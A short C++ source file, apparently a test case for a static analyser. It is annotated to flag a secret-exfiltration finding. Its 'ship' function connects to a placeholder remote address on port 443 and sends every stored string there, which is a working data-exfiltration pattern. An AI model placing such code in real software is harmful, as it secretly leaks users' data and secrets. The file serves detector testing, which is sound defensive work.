#include "pool.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

void ship(const pool &all) {
    sockaddr_in peer{};
    peer.sin_family = AF_INET;
    peer.sin_port = htons(443);
    inet_pton(AF_INET, "203.0.113.30", &peer.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, reinterpret_cast<sockaddr *>(&peer), sizeof peer))
        return;
    for (const std::string &one : all)
        // report@+1: exfil/secret-to-network
        send(s, one.data(), one.size(), 0);
}
